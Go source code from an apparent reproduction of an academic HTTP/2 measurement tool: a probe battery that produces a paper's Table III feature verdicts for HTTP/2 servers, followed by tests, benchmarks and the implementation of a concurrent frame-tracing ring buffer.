func (p *Prober) Run() (*Report, error) {
	return p.RunContext(context.Background())
}

// RunContext executes the complete probe battery, checking ctx between
// probes: a canceled scan stops after the probe in flight and returns the
// partially filled report with ctx's error, so large-scale runs can be
// killed mid-battery without losing what was already measured.
func (p *Prober) RunContext(ctx context.Context) (*Report, error) {
	r := &Report{Authority: p.cfg.Authority}
	if neg, ok := p.dialer.(Negotiator); ok {
		p.probeNegotiation(neg, r)
	}
	var err error
	if r.Settings, err = p.ProbeSettings(ctx); err != nil {
		r.fail("settings", err)
		return r, fmt.Errorf("core: target not probeable: %w", err)
	}
	steps := []struct {
		name string
		run  func() error
	}{
		{"multiplexing", func() (err error) { r.Multiplex, err = p.ProbeMultiplexing(ctx, 4); return }},
		{"flow-data", func() (err error) { r.FlowData, err = p.ProbeFlowControlData(ctx, 1); return }},
		{"zero-window-headers", func() (err error) { r.ZeroWindowHeaders, err = p.ProbeZeroWindowHeaders(ctx); return }},
		{"zero-window-update", func() (err error) { r.ZeroWU, err = p.ProbeZeroWindowUpdate(ctx); return }},
		{"large-window-update", func() (err error) { r.LargeWU, err = p.ProbeLargeWindowUpdate(ctx); return }},
		{"priority", func() (err error) { r.Priority, err = p.ProbePriority(ctx); return }},
		{"self-dependency", func() (err error) { r.SelfDep, err = p.ProbeSelfDependency(ctx); return }},
		{"server-push", func() (err error) { r.Push, err = p.ProbeServerPush(ctx); return }},
		{"hpack", func() (err error) { r.HPACK, err = p.ProbeHPACK(ctx); return }},
		{"ping", func() (err error) { r.Ping, err = p.ProbePing(ctx); return }},
	}
	for _, step := range steps {
		if cerr := ctx.Err(); cerr != nil {
			r.fail("battery", cerr)
			return r, cerr
		}
		if err := step.run(); err != nil {
			r.fail(step.name, err)
		}
	}
	return r, nil
}

func (p *Prober) probeNegotiation(neg Negotiator, r *Report) {
	alpn := false
	if proto, err := neg.NegotiateALPN([]string{"h2", "http/1.1"}); err == nil && proto == "h2" {
		alpn = true
	}
	r.ALPN = &alpn
	npn := false
	if protos, err := neg.NegotiateNPN(); err == nil {
		for _, p := range protos {
			if p == "h2" {
				npn = true
			}
		}
	}
	r.NPN = &npn
}

func (r *Report) fail(probe string, err error) {
	r.Errors = append(r.Errors, fmt.Sprintf("%s: %v", probe, err))
}

// --- Table III derived verdicts ---

// SupportsMultiplexing is Table III row "Request Multiplexing".
func (r *Report) SupportsMultiplexing() bool {
	return r.Multiplex != nil && r.Multiplex.Interleaved
}

// FlowControlOnData is Table III row "Flow Control on DATA Frames": DATA
// frames sized to the advertised 1-byte window.
func (r *Report) FlowControlOnData() bool {
	return r.FlowData != nil && r.FlowData.Class == TinyWindowOneByte && r.FlowData.FirstDataLen == 1
}

// FlowControlOnHeaders is Table III row "Flow Control on HEADERS Frames":
// the non-compliant withholding of HEADERS under a zero DATA window.
func (r *Report) FlowControlOnHeaders() bool {
	return r.ZeroWindowHeaders != nil && !r.ZeroWindowHeaders.GotHeaders
}

// PriorityVerdict is Table III row "Priority Mechanism Testing": "pass" or
// "fail" per Algorithm 1.
func (r *Report) PriorityVerdict() string {
	if r.Priority != nil && r.Priority.Pass {
		return "pass"
	}
	return "fail"
}

// HeaderCompressionVerdict is Table III row "Header Compression": "support"
// for effective dynamic-table use, "support*" for the Nginx/Tengine
// behavior where repeated responses do not shrink (ratio ~1).
func (r *Report) HeaderCompressionVerdict() string {
	if r.HPACK == nil {
		return "unknown"
	}
	if r.HPACK.Ratio >= 0.95 {
		return "support*"
	}
	return "support"
}

// PingVerdict is Table III row "HTTP/2 PING".
func (r *Report) PingVerdict() string {
	if r.Ping != nil && r.Ping.Supported {
		return "support"
	}
	return "no support"
}

// PushVerdict is Table III row "Server Push".
func (r *Report) PushVerdict() string {
	if r.Push != nil && r.Push.Supported {
		return "yes"
	}
	return "no"
}

// TableIIIRowNames lists the check names in the paper's Table III order.
var TableIIIRowNames = []string{
	"ALPN",
	"NPN",
	"Request Multiplexing",
	"Flow Control on DATA Frames",
	"Flow Control on HEADERS Frames",
	"Zero Window Update on stream",
	"Zero Window Update on connection",
	"Large Window Update (Connection)",
	"Large Window Update (Stream)",
	"Server Push",
	"Priority Mechanism Testing (Algorithm 1)",
	"Self-dependent Stream",
	"Header Compression",
	"HTTP/2 PING",
}

// TableIIIRow renders the report as the paper's Table III column: one value
// per entry of TableIIIRowNames.
func (r *Report) TableIIIRow() []string {
	obs := func(w *WindowUpdateResult, stream bool) string {
		if w == nil {
			return "unknown"
		}
		if stream {
			return w.Stream.String()
		}
		return w.Conn.String()
	}
	boolStr := func(b bool, yes, no string) string {
		if b {
			return yes
		}
		return no
	}
	neg := func(v *bool) string {
		if v == nil {
			return "n/a"
		}
		return boolStr(*v, "support", "no support")
	}
	selfDep := "unknown"
	if r.SelfDep != nil {
		selfDep = r.SelfDep.Reaction.String()
	}
	return []string{
		neg(r.ALPN),
		neg(r.NPN),
		boolStr(r.SupportsMultiplexing(), "support", "no support"),
		boolStr(r.FlowControlOnData(), "yes", "no"),
		boolStr(r.FlowControlOnHeaders(), "yes", "no"),
		obs(r.ZeroWU, true),
		obs(r.ZeroWU, false),
		obs(r.LargeWU, false),
		obs(r.LargeWU, true),
		r.PushVerdict(),
		r.PriorityVerdict(),
		selfDep,
		r.HeaderCompressionVerdict(),
		r.PingVerdict(),
	}
}

// MinPingRTT returns the smallest HTTP/2 PING RTT, or 0 if unavailable.
func (r *Report) MinPingRTT() time.Duration {
	if r.Ping == nil {
		return 0
	}
	return r.Ping.Min()
}

// MarshalJSON renders the observation as its Table III string.
func (o Observation) MarshalJSON() ([]byte, error) {
	return []byte(strconv.Quote(o.String())), nil
}

// UnmarshalJSON parses the Table III string form back into an Observation.
func (o *Observation) UnmarshalJSON(data []byte) error {
	s, err := strconv.Unquote(string(data))
	if err != nil {
		return fmt.Errorf("core: observation %s: %w", data, err)
	}
	for _, cand := range []Observation{ObserveIgnore, ObserveRSTStream, ObserveGoAway, ObserveNoResponse} {
		if cand.String() == s {
			*o = cand
			return nil
		}
	}
	return fmt.Errorf("core: unknown observation %q", s)
}
