package trace

import (
	"bytes"
	"context"
	"strings"
	"sync"
	"testing"
	"time"

	"h2scope/internal/frame"
	"h2scope/internal/metrics"
)

func TestEmitSnapshotOrdering(t *testing.T) {
	tr := New(64)
	conn := tr.ConnID()
	tr.ConnOpen(conn, "example.test")
	for i := 0; i < 10; i++ {
		tr.Frame(conn, i%2 == 0, frame.Header{
			Type: frame.TypeData, StreamID: 1, Length: uint32(i),
		})
	}
	tr.ConnClose(conn, "done")

	events := tr.Snapshot()
	if len(events) != 12 {
		t.Fatalf("snapshot has %d events, want 12", len(events))
	}
	for i := 1; i < len(events); i++ {
		if events[i].Seq <= events[i-1].Seq {
			t.Fatalf("snapshot out of order at %d: seq %d then %d", i, events[i-1].Seq, events[i].Seq)
		}
		if events[i].At.Before(events[i-1].At) {
			t.Fatalf("timestamps regress at %d", i)
		}
	}
	if events[0].Kind != KindConnOpen || events[0].Detail != "example.test" {
		t.Fatalf("first event = %+v, want conn-open example.test", events[0])
	}
	if last := events[len(events)-1]; last.Kind != KindConnClose {
		t.Fatalf("last event kind = %v, want conn-close", last.Kind)
	}
	if got := tr.Emitted(); got != 12 {
		t.Fatalf("Emitted = %d, want 12", got)
	}
	if got := tr.Dropped(); got != 0 {
		t.Fatalf("Dropped = %d, want 0", got)
	}
}

func TestRingOverwriteCountsDrops(t *testing.T) {
	tr := New(8) // power of two already; ring holds exactly 8
	conn := tr.ConnID()
	const emits = 20
	for i := 0; i < emits; i++ {
		tr.Frame(conn, true, frame.Header{Type: frame.TypePing, Length: 8})
	}
	if got := tr.Emitted(); got != emits {
		t.Fatalf("Emitted = %d, want %d", got, emits)
	}
	if got := tr.Dropped(); got != emits-8 {
		t.Fatalf("Dropped = %d, want %d", got, emits-8)
	}
	events := tr.Snapshot()
	if len(events) != 8 {
		t.Fatalf("snapshot has %d events, want 8", len(events))
	}
	// The survivors must be the newest 8.
	for i, ev := range events {
		if want := uint64(emits - 8 + i); ev.Seq != want {
			t.Fatalf("event %d has seq %d, want %d", i, ev.Seq, want)
		}
	}
}

func TestCapacityRoundsUpToPowerOfTwo(t *testing.T) {
	for _, tc := range []struct{ in, want int }{
		{0, DefaultCapacity}, {-1, DefaultCapacity}, {1, 1}, {3, 4}, {100, 128}, {8192, 8192},
	} {
		if got := New(tc.in).Capacity(); got != tc.want {
			t.Errorf("New(%d).Capacity() = %d, want %d", tc.in, got, tc.want)
		}
	}
}

func TestNilTracerIsSafe(t *testing.T) {
	var tr *Tracer
	conn := tr.ConnID()
	if conn != 0 {
		t.Fatalf("nil ConnID = %d, want 0", conn)
	}
	tr.ConnOpen(conn, "x")
	tr.Frame(conn, true, frame.Header{})
	tr.Error(conn, "boom")
	done := tr.Phase("p")
	done()
	tr.ConnClose(conn, "x")
	if got := tr.Snapshot(); got != nil {
		t.Fatalf("nil Snapshot = %v, want nil", got)
	}
	if tr.Emitted() != 0 || tr.Dropped() != 0 || tr.Capacity() != 0 {
		t.Fatal("nil tracer counters should be zero")
	}
	if !tr.Start().IsZero() {
		t.Fatal("nil Start should be zero time")
	}
}

func TestPhaseAnnotatesEvents(t *testing.T) {
	tr := New(64)
	conn := tr.ConnID()
	tr.Frame(conn, true, frame.Header{Type: frame.TypeSettings}) // before any phase
	end := tr.Phase("multiplexing")
	tr.Frame(conn, true, frame.Header{Type: frame.TypeHeaders, StreamID: 1})
	inner := tr.Phase("inner")
	tr.Frame(conn, false, frame.Header{Type: frame.TypeData, StreamID: 1})
	inner()
	tr.Frame(conn, false, frame.Header{Type: frame.TypeData, StreamID: 3})
	end()
	tr.Frame(conn, true, frame.Header{Type: frame.TypeGoAway}) // after all phases

	var phases []string
	for _, ev := range tr.Snapshot() {
		if ev.Kind.IsFrame() {
			phases = append(phases, ev.Phase)
		}
	}
	want := []string{"", "multiplexing", "inner", "multiplexing", ""}
	if len(phases) != len(want) {
		t.Fatalf("got %d frame events, want %d", len(phases), len(want))
	}
	for i := range want {
		if phases[i] != want[i] {
			t.Fatalf("frame %d phase = %q, want %q", i, phases[i], want[i])
		}
	}
}

func TestRegionEmitsConnScopedMarkers(t *testing.T) {
	tr := New(64)
	conn := tr.ConnID()
	end := tr.Region(conn, "dial")
	tr.Frame(conn, true, frame.Header{Type: frame.TypeSettings})
	end()

	evs := tr.Snapshot()
	if len(evs) != 3 {
		t.Fatalf("got %d events, want 3", len(evs))
	}
	start, frameEv, stop := evs[0], evs[1], evs[2]
	if start.Kind != KindPhaseStart || start.Phase != "dial" || start.Conn != conn {
		t.Errorf("region start = %+v", start)
	}
	if stop.Kind != KindPhaseEnd || stop.Phase != "dial" || stop.Conn != conn {
		t.Errorf("region end = %+v", stop)
	}
	// Unlike Phase, Region does not annotate interleaved frames: it marks a
	// conn-scoped interval without touching the tracer-global phase label.
	if frameEv.Phase != "" {
		t.Errorf("frame inside region carries phase %q, want none", frameEv.Phase)
	}

	var nilTr *Tracer
	nilTr.Region(1, "dial")() // nil-safe no-op
}

// TestConcurrentEmitSnapshot exercises the lock-free ring under the race
// detector: many producers emitting while a reader snapshots continuously.
func TestConcurrentEmitSnapshot(t *testing.T) {
	tr := New(256)
	const producers = 8
	const perProducer = 500

	var wg sync.WaitGroup
	stop := make(chan struct{})
	wg.Add(1)
	go func() {
		defer wg.Done()
		for {
			select {
			case <-stop:
				return
			default:
			}
			events := tr.Snapshot()
			for i := 1; i < len(events); i++ {
				if events[i].Seq <= events[i-1].Seq {
					t.Errorf("concurrent snapshot out of order: %d then %d", events[i-1].Seq, events[i].Seq)
					return
				}
			}
		}
	}()
	for p := 0; p < producers; p++ {
		wg.Add(1)
		go func(p int) {
			defer wg.Done()
			conn := tr.ConnID()
			for i := 0; i < perProducer; i++ {
				tr.Frame(conn, i%2 == 0, frame.Header{
					Type: frame.TypeData, StreamID: uint32(2*p + 1), Length: uint32(i),
				})
			}
		}(p)
	}
	// Phase churn races against producers too.
	wg.Add(1)
	go func() {
		defer wg.Done()
		for i := 0; i < 100; i++ {
			end := tr.Phase("p")
			end()
		}
	}()

	done := make(chan struct{})
	go func() { wg.Wait(); close(done) }()
	// Producers finish, then stop the reader.
	for {
		if tr.Emitted() >= producers*perProducer {
			break
		}
		select {
		case <-done:
		default:
			time.Sleep(time.Millisecond)
			continue
		}
		break
	}
	close(stop)
	<-done

	if got := tr.Emitted(); got < producers*perProducer {
		t.Fatalf("Emitted = %d, want >= %d", got, producers*perProducer)
	}
	if len(tr.Snapshot()) != 256 {
		t.Fatalf("final snapshot has %d events, want full ring of 256", len(tr.Snapshot()))
	}
	if tr.Dropped() == 0 {
		t.Fatal("expected drops after overfilling the ring")
	}
}

func TestBuildSpans(t *testing.T) {
	tr := New(256)
	conn := tr.ConnID()
	tr.ConnOpen(conn, "testbed.example")
	end := tr.Phase("multiplexing")
	// Two interleaved request/response streams.
	tr.Frame(conn, true, frame.Header{Type: frame.TypeHeaders, StreamID: 1, Flags: frame.FlagEndStream | frame.FlagEndHeaders})
	tr.Frame(conn, true, frame.Header{Type: frame.TypeHeaders, StreamID: 3, Flags: frame.FlagEndStream | frame.FlagEndHeaders})
	tr.Frame(conn, false, frame.Header{Type: frame.TypeHeaders, StreamID: 1, Flags: frame.FlagEndHeaders, Length: 20})
	tr.Frame(conn, false, frame.Header{Type: frame.TypeHeaders, StreamID: 3, Flags: frame.FlagEndHeaders, Length: 20})
	tr.Frame(conn, false, frame.Header{Type: frame.TypeData, StreamID: 1, Length: 100})
	tr.Frame(conn, false, frame.Header{Type: frame.TypeData, StreamID: 3, Length: 200})
	tr.Frame(conn, false, frame.Header{Type: frame.TypeData, StreamID: 1, Length: 50, Flags: frame.FlagEndStream})
	tr.Frame(conn, false, frame.Header{Type: frame.TypeData, StreamID: 3, Length: 50, Flags: frame.FlagEndStream})
	end()
	tr.ConnClose(conn, "")

	spans := BuildSpans(tr.Snapshot())
	if len(spans) != 1 {
		t.Fatalf("got %d conn spans, want 1", len(spans))
	}
	c := spans[0]
	if !c.Opened || !c.Closed {
		t.Fatalf("conn span lifecycle: opened=%v closed=%v", c.Opened, c.Closed)
	}
	if c.Detail != "testbed.example" {
		t.Fatalf("conn detail = %q", c.Detail)
	}
	if c.FramesSent != 2 || c.FramesRecv != 6 {
		t.Fatalf("conn frames = %d sent / %d recv, want 2/6", c.FramesSent, c.FramesRecv)
	}
	if c.BytesRecv != 400 {
		t.Fatalf("conn BytesRecv = %d, want 400", c.BytesRecv)
	}
	if len(c.Streams) != 2 {
		t.Fatalf("got %d stream spans, want 2", len(c.Streams))
	}
	for i, wantID := range []uint32{1, 3} {
		s := c.Streams[i]
		if s.StreamID != wantID {
			t.Fatalf("stream %d has ID %d, want %d", i, s.StreamID, wantID)
		}
		if s.Phase != "multiplexing" {
			t.Fatalf("stream %d phase = %q, want multiplexing", s.StreamID, s.Phase)
		}
		if !s.EndStream {
			t.Fatalf("stream %d missing END_STREAM", s.StreamID)
		}
		if s.FirstHeaders.IsZero() || s.FirstData.IsZero() || s.LastData.IsZero() {
			t.Fatalf("stream %d missing latency landmarks: %+v", s.StreamID, s)
		}
		if s.FirstByteLatency() <= 0 || s.LastByteLatency() < s.FirstByteLatency() {
			t.Fatalf("stream %d latency ordering: first=%v last=%v",
				s.StreamID, s.FirstByteLatency(), s.LastByteLatency())
		}
	}
	if c.Streams[0].BytesRecv != 150 || c.Streams[1].BytesRecv != 250 {
		t.Fatalf("stream bytes = %d/%d, want 150/250", c.Streams[0].BytesRecv, c.Streams[1].BytesRecv)
	}
}

func TestExportRoundTrip(t *testing.T) {
	tr := New(64)
	conn := tr.ConnID()
	tr.ConnOpen(conn, "round.trip")
	end := tr.Phase("settings")
	tr.Frame(conn, true, frame.Header{Type: frame.TypeSettings, Length: 12})
	tr.Frame(conn, false, frame.Header{Type: frame.TypeSettings, Flags: frame.FlagAck})
	end()
	tr.Error(conn, "sample error")
	tr.ConnClose(conn, "eof")

	var buf bytes.Buffer
	if err := Write(&buf, "round.trip", tr); err != nil {
		t.Fatalf("Write: %v", err)
	}
	d, err := Read(&buf)
	if err != nil {
		t.Fatalf("Read: %v", err)
	}
	if d.Target != "round.trip" {
		t.Fatalf("Target = %q", d.Target)
	}
	orig := tr.Snapshot()
	if len(d.Events) != len(orig) {
		t.Fatalf("round trip has %d events, want %d", len(d.Events), len(orig))
	}
	for i := range orig {
		got, want := d.Events[i], orig[i]
		if got.Seq != want.Seq || got.Kind != want.Kind || got.Conn != want.Conn ||
			got.Phase != want.Phase || got.StreamID != want.StreamID ||
			got.FrameType != want.FrameType || got.Flags != want.Flags ||
			got.Length != want.Length || got.Detail != want.Detail {
			t.Fatalf("event %d mismatch:\n got %+v\nwant %+v", i, got, want)
		}
		// Times survive as relative offsets (wall-clock precision only).
		if dt := got.At.Sub(want.At); dt > time.Millisecond || dt < -time.Millisecond {
			t.Fatalf("event %d time skew %v", i, dt)
		}
	}
	if d.Emitted != tr.Emitted() || d.Dropped != tr.Dropped() {
		t.Fatalf("header counters %d/%d, want %d/%d", d.Emitted, d.Dropped, tr.Emitted(), tr.Dropped())
	}
}

func TestReadRejectsNonTrace(t *testing.T) {
	if _, err := Read(strings.NewReader(`{"domain":"a.example"}` + "\n")); err == nil {
		t.Fatal("Read accepted a non-trace stream")
	}
	if _, err := Read(strings.NewReader("")); err == nil {
		t.Fatal("Read accepted empty input")
	}
	if _, err := Read(strings.NewReader("not json\n")); err == nil {
		t.Fatal("Read accepted garbage")
	}
}

func TestRenderShowsPhasesAndStreams(t *testing.T) {
	tr := New(64)
	conn := tr.ConnID()
	tr.ConnOpen(conn, "render.example")
	end := tr.Phase("multiplexing")
	tr.Frame(conn, true, frame.Header{Type: frame.TypeHeaders, StreamID: 1, Flags: frame.FlagEndStream})
	tr.Frame(conn, false, frame.Header{Type: frame.TypeData, StreamID: 1, Length: 64, Flags: frame.FlagEndStream})
	end()
	tr.ConnClose(conn, "")

	var buf bytes.Buffer
	if err := Write(&buf, "render.example", tr); err != nil {
		t.Fatalf("Write: %v", err)
	}
	d, err := Read(&buf)
	if err != nil {
		t.Fatalf("Read: %v", err)
	}
	out := Render(d, RenderOptions{Events: true})
	for _, want := range []string{
		"trace render.example",
		"conn 1 (render.example)",
		"stream 1",
		"[multiplexing]",
		"phase-start multiplexing",
		"DATA",
		"END_STREAM",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("Render output missing %q:\n%s", want, out)
		}
	}

	merge := RenderMerge([]MergeRow{Summarize("render.example.jsonl", d)})
	for _, want := range []string{"render.example.jsonl", "total (1 traces)"} {
		if !strings.Contains(merge, want) {
			t.Errorf("RenderMerge output missing %q:\n%s", want, merge)
		}
	}
}

func TestContextPlumbing(t *testing.T) {
	if got := FromContext(context.Background()); got != nil {
		t.Fatalf("FromContext(empty) = %v, want nil", got)
	}
	tr := New(8)
	ctx := NewContext(context.Background(), tr)
	if got := FromContext(ctx); got != tr {
		t.Fatalf("FromContext = %v, want the stored tracer", got)
	}
}

func TestKindStringRoundTrip(t *testing.T) {
	for k := KindFrameSent; k <= KindError; k++ {
		if got := KindFromString(k.String()); got != k {
			t.Errorf("KindFromString(%q) = %v, want %v", k.String(), got, k)
		}
	}
	if Kind(0).String() != "unknown" {
		t.Error("zero Kind should render unknown")
	}
	if KindFromString("nope") != 0 {
		t.Error("unknown name should parse to 0")
	}
}

func BenchmarkEmit(b *testing.B) {
	tr := New(8192)
	hdr := frame.Header{Type: frame.TypeData, StreamID: 1, Length: 1024}
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		tr.Frame(1, true, hdr)
	}
}

func BenchmarkEmitParallel(b *testing.B) {
	tr := New(8192)
	hdr := frame.Header{Type: frame.TypeData, StreamID: 1, Length: 1024}
	b.ReportAllocs()
	b.RunParallel(func(pb *testing.PB) {
		for pb.Next() {
			tr.Frame(1, false, hdr)
		}
	})
}

func BenchmarkEmitNil(b *testing.B) {
	var tr *Tracer
	hdr := frame.Header{Type: frame.TypeData, StreamID: 1, Length: 1024}
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		tr.Frame(1, true, hdr)
	}
}

func BenchmarkSnapshot(b *testing.B) {
	tr := New(8192)
	for i := 0; i < 8192; i++ {
		tr.Frame(1, true, frame.Header{Type: frame.TypeData, StreamID: 1, Length: uint32(i)})
	}
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if len(tr.Snapshot()) == 0 {
			b.Fatal("empty snapshot")
		}
	}
}

func TestExportMetricsGauges(t *testing.T) {
	tr := New(8)
	r := metrics.NewRegistry()
	tr.ExportMetrics(r)

	value := func(name string) int64 {
		t.Helper()
		for _, m := range r.Snapshot() {
			if m.Name == name {
				return m.Value
			}
		}
		t.Fatalf("gauge %q not registered", name)
		return 0
	}

	if got := value("h2_trace_ring_capacity"); got != 8 {
		t.Fatalf("h2_trace_ring_capacity = %d, want 8", got)
	}
	if got := value("h2_trace_events_total"); got != 0 {
		t.Fatalf("h2_trace_events_total = %d before emits, want 0", got)
	}

	conn := tr.ConnID()
	const emits = 20
	for i := 0; i < emits; i++ {
		tr.Frame(conn, true, frame.Header{Type: frame.TypePing, Length: 8})
	}
	// GaugeFuncs read live state: the emit/drop counts show up without
	// re-exporting.
	if got := value("h2_trace_events_total"); got != emits {
		t.Fatalf("h2_trace_events_total = %d, want %d", got, emits)
	}
	if got := value("h2_trace_dropped_total"); got != emits-8 {
		t.Fatalf("h2_trace_dropped_total = %d, want %d", got, emits-8)
	}
	if got, want := value("h2_trace_dropped_total"), int64(tr.Dropped()); got != want {
		t.Fatalf("gauge %d disagrees with Dropped() %d", got, want)
	}

	// Swapping tracers re-points the gauges at the new one.
	tr2 := New(16)
	tr2.ExportMetrics(r)
	if got := value("h2_trace_events_total"); got != 0 {
		t.Fatalf("after re-export, h2_trace_events_total = %d, want 0", got)
	}
	if got := value("h2_trace_ring_capacity"); got != 16 {
		t.Fatalf("after re-export, h2_trace_ring_capacity = %d, want 16", got)
	}

	// A nil tracer exports zero-valued gauges rather than panicking.
	var nilTr *Tracer
	nilTr.ExportMetrics(r)
	if got := value("h2_trace_events_total"); got != 0 {
		t.Fatalf("nil tracer gauge = %d, want 0", got)
	}
}

func TestSubscriptionExportMetrics(t *testing.T) {
	tr := New(64)
	sub := tr.Subscribe(4)
	defer sub.Close()
	r := metrics.NewRegistry()
	sub.ExportMetrics(r, "detector")

	value := func(name string) int64 {
		t.Helper()
		for _, m := range r.Snapshot() {
			if m.Name == name {
				return m.Value
			}
		}
		t.Fatalf("gauge %q not registered", name)
		return 0
	}

	dropped := metrics.Label("h2_trace_sub_dropped_total", "sub", "detector")
	pending := metrics.Label("h2_trace_sub_pending", "sub", "detector")
	if got := value(dropped); got != 0 {
		t.Fatalf("%s = %d before emits, want 0", dropped, got)
	}

	conn := tr.ConnID()
	const emits = 10 // overflows the 4-slot queue: 6 drops, 4 pending
	for i := 0; i < emits; i++ {
		tr.Frame(conn, true, frame.Header{Type: frame.TypePing, Length: 8})
	}
	if got, want := value(dropped), int64(sub.Dropped()); got != want || want != emits-4 {
		t.Fatalf("%s = %d, Dropped() = %d, want both %d", dropped, got, want, emits-4)
	}
	if got := value(pending); got != 4 {
		t.Fatalf("%s = %d, want 4", pending, got)
	}

	// Draining the queue is visible through the live gauge.
	sub.Drain(nil)
	if got := value(pending); got != 0 {
		t.Fatalf("after drain, %s = %d, want 0", pending, got)
	}
}
