// Package trace is the reproduction's frame-level tracing and metrics
// subsystem: a low-overhead, concurrency-safe event bus every layer emits
// into.
//
// The paper's conclusions all rest on orderings and timings of frames —
// response interleaving for multiplexing (Section III-A), DATA/HEADERS order
// under priority trees (Section III-C), PING RTT deltas (Section III-F) —
// so the enabling substrate is a first-class record of those events. A
// Tracer is a bounded ring buffer of typed events (frame sent/received,
// connection lifecycle, probe phase boundaries, errors) with monotonic
// timestamps and drop accounting: events live in the ring by value behind
// per-slot micro-locks, so the hot path is allocation-free, never contends
// across slots, and never waits behind a whole-ring reader; when the ring
// wraps, the overwritten events are counted, not silently lost.
//
// Derived views (per-connection and per-stream spans, see span.go), JSONL
// export (export.go), and the human-readable timeline renderer behind the
// h2trace CLI (render.go) all consume the same event stream, so there is
// one event path from the wire to every consumer.
package trace

import (
	"context"
	"sync"
	"sync/atomic"
	"time"

	"h2scope/internal/frame"
)

// Kind classifies a trace event.
type Kind uint8

// Event kinds. Frame direction is part of the kind: sent means written by
// the traced endpoint, received means read off the wire.
const (
	// KindFrameSent is a frame written to the peer.
	KindFrameSent Kind = iota + 1
	// KindFrameRecv is a frame read from the peer.
	KindFrameRecv
	// KindConnOpen marks a connection coming up.
	KindConnOpen
	// KindConnClose marks a connection going down.
	KindConnClose
	// KindPhaseStart marks the beginning of a probe phase.
	KindPhaseStart
	// KindPhaseEnd marks the end of a probe phase.
	KindPhaseEnd
	// KindError records a connection or probe error.
	KindError
)

var kindNames = map[Kind]string{
	KindFrameSent:  "frame-sent",
	KindFrameRecv:  "frame-recv",
	KindConnOpen:   "conn-open",
	KindConnClose:  "conn-close",
	KindPhaseStart: "phase-start",
	KindPhaseEnd:   "phase-end",
	KindError:      "error",
}

// String names the kind for exports and logs.
func (k Kind) String() string {
	if s, ok := kindNames[k]; ok {
		return s
	}
	return "unknown"
}

// KindFromString parses the export form back into a Kind (0 if unknown).
func KindFromString(s string) Kind {
	for k, name := range kindNames {
		if name == s {
			return k
		}
	}
	return 0
}

// IsFrame reports whether the event describes a wire frame.
func (k Kind) IsFrame() bool { return k == KindFrameSent || k == KindFrameRecv }

// Event is one traced occurrence. Fields beyond Seq/At/Kind are populated
// according to Kind: frame events carry the frame header fields, phase
// events carry Phase, lifecycle and error events carry Detail.
type Event struct {
	// Seq is the tracer-global emit index; ring overwrites leave gaps.
	Seq uint64
	// At is the event time, captured with Go's monotonic clock.
	At time.Time
	// Kind classifies the event.
	Kind Kind
	// Conn distinguishes connections sharing one tracer (a probe battery
	// opens a fresh connection per probe; a server traces many at once).
	Conn uint64
	// Phase is the probe phase active when the event was emitted.
	Phase string
	// StreamID, FrameType, Flags, and Length mirror the frame header of
	// frame events.
	StreamID  uint32
	FrameType frame.Type
	Flags     frame.Flags
	Length    int
	// Detail carries lifecycle or error text.
	Detail string
}

// StreamEnded reports whether a DATA or HEADERS frame event carried
// END_STREAM.
func (e Event) StreamEnded() bool {
	return (e.FrameType == frame.TypeData || e.FrameType == frame.TypeHeaders) &&
		e.Flags.Has(frame.FlagEndStream)
}

// DefaultCapacity is the ring size used when New is given a non-positive
// capacity: enough for a full probe battery (hundreds of frames) with an
// order of magnitude of headroom.
const DefaultCapacity = 8192

// ring is a bounded, overwrite-oldest event buffer. Producers claim a slot
// index with one atomic add, then store the event by value under that slot's
// own mutex; overwriting a not-yet-snapshotted event counts it as dropped.
// Storing values instead of pointers keeps the emit path allocation-free,
// which matters: a pointer-per-event design triples the allocation rate of a
// traced connection and the extra GC cycles cost far more than the emit
// itself. Per-slot locks mean producers only ever contend with a reader
// visiting that one slot (a 100-byte copy), never with each other on
// distinct slots and never for the duration of a whole-ring snapshot.
type ring struct {
	slots   []slot
	mask    uint64
	next    atomic.Uint64
	dropped atomic.Uint64
}

// slot is one micro-locked ring cell.
type slot struct {
	mu   sync.Mutex
	ev   Event
	full bool
}

func newRing(capacity int) *ring {
	if capacity <= 0 {
		capacity = DefaultCapacity
	}
	// Round up to a power of two so slot selection is a mask, not a mod.
	n := 1
	for n < capacity {
		n <<= 1
	}
	return &ring{slots: make([]slot, n), mask: uint64(n - 1)}
}

func (r *ring) emit(ev *Event) {
	ev.Seq = r.next.Add(1) - 1
	s := &r.slots[ev.Seq&r.mask]
	s.mu.Lock()
	if s.full {
		r.dropped.Add(1)
	}
	s.ev = *ev
	s.full = true
	s.mu.Unlock()
}

// snapshot returns the retained events ordered by Seq. Concurrent emits may
// or may not be included; each included event is internally consistent.
func (r *ring) snapshot() []Event {
	out := make([]Event, 0, len(r.slots))
	for i := range r.slots {
		s := &r.slots[i]
		s.mu.Lock()
		if s.full {
			out = append(out, s.ev)
		}
		s.mu.Unlock()
	}
	// Slots are scanned in index order, not emit order; restore Seq order.
	// Insertion sort: the slice is nearly sorted already (at most one wrap
	// point), so this is O(n) in practice.
	for i := 1; i < len(out); i++ {
		for j := i; j > 0 && out[j].Seq < out[j-1].Seq; j-- {
			out[j], out[j-1] = out[j-1], out[j]
		}
	}
	return out
}

// Tracer is the event bus one traced unit (a probed target, a testbed
// server) emits into. All methods are safe for concurrent use and are
// no-ops on a nil receiver, so instrumented code never needs nil checks.
type Tracer struct {
	start time.Time
	ring  *ring
	phase atomic.Pointer[string]
	conns atomic.Uint64

	// subs is the copy-on-write subscriber list; emit reads it with one
	// atomic load, so a tracer with no subscribers pays a single pointer
	// check per event. subMu serializes Subscribe/unsubscribe rewrites.
	subMu sync.Mutex
	subs  atomic.Pointer[[]*Subscription]
}

// New returns a tracer retaining up to capacity events (DefaultCapacity
// when capacity <= 0; rounded up to a power of two).
func New(capacity int) *Tracer {
	return &Tracer{start: time.Now(), ring: newRing(capacity)}
}

// Start returns the tracer's creation time (the zero point of exported
// relative timestamps).
func (t *Tracer) Start() time.Time {
	if t == nil {
		return time.Time{}
	}
	return t.start
}

// Capacity returns the ring size.
func (t *Tracer) Capacity() int {
	if t == nil {
		return 0
	}
	return len(t.ring.slots)
}

// Emitted returns how many events were emitted over the tracer's lifetime,
// including any since overwritten.
func (t *Tracer) Emitted() uint64 {
	if t == nil {
		return 0
	}
	return t.ring.next.Load()
}

// Dropped returns how many events the ring overwrote before they could be
// snapshotted — the tracer's honesty counter.
func (t *Tracer) Dropped() uint64 {
	if t == nil {
		return 0
	}
	return t.ring.dropped.Load()
}

